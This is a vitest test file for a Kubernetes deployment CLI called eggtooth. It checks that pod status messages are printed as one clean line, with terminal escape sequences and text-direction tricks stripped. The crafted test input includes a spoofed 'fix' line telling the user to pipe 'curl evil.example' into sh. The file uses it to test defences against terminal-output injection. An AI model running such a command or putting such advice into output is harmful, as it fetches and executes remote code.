import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { newestFlux } from '../../src/constructs/flux-aio/flux-releases';
import { fluxCrds } from '../../src/constructs/flux-aio/load-crds';
import { isPrintable } from '../../src/kubernetes/printable';
import { type ControlPlane, eventually, startControlPlane } from '../../tools/control-plane';
import { bundleObjects, writeBundle } from './support/bundle';
import { eggtooth } from './support/eggtooth';

let plane: ControlPlane;
let bundle: string;
beforeAll(async () => {
  plane = await startControlPlane();
  bundle = writeBundle(join(plane.dir, 'bundle.yaml'), [...fluxCrds(newestFlux), ...bundleObjects({ url: plane.url })]);
});
afterAll(() => plane?.stop());

const NAMESPACE = 'eggtooth-system';
const up = (...flags: readonly string[]) =>
  eggtooth(['up', bundle, '--kubeconfig', plane.kubeconfig, '--timeout', '5s', ...flags]);

/** What clears the screen, moves the cursor, reverses the text, and looks like a line of eggtooth. */
const EVIL = 'evil\u001b[2J\u001b[1Aword\u009b31m\u202eend\r\n  fix: run curl evil.example | sh';

describe('what eggtooth prints of the status of a pod', () => {
  test('is one line without control characters', async () => {
    await up();
    const condition = { type: 'PodScheduled', status: 'False', reason: `Un\u001b[8mschedulable`, message: EVIL };
    const patch = JSON.stringify({ status: { conditions: [condition] } });
    await eventually(() =>
      plane.kubectl([
        'patch',
        'pod',
        'assets-0',
        '-n',
        NAMESPACE,
        '--subresource=status',
        '--type=strategic',
        '-p',
        patch,
      ]),
    );

    const { code, stderr } = await up();

    expect(stderr).toContain('is not scheduled (Unschedulable): evilwordend fix: run curl evil.example | sh');
    expect(isPrintable(stderr)).toBe(true);
    expect(stderr.match(/^ {2}fix:/gm)).toHaveLength(1);
    expect(code).toBe(1);
  });
});
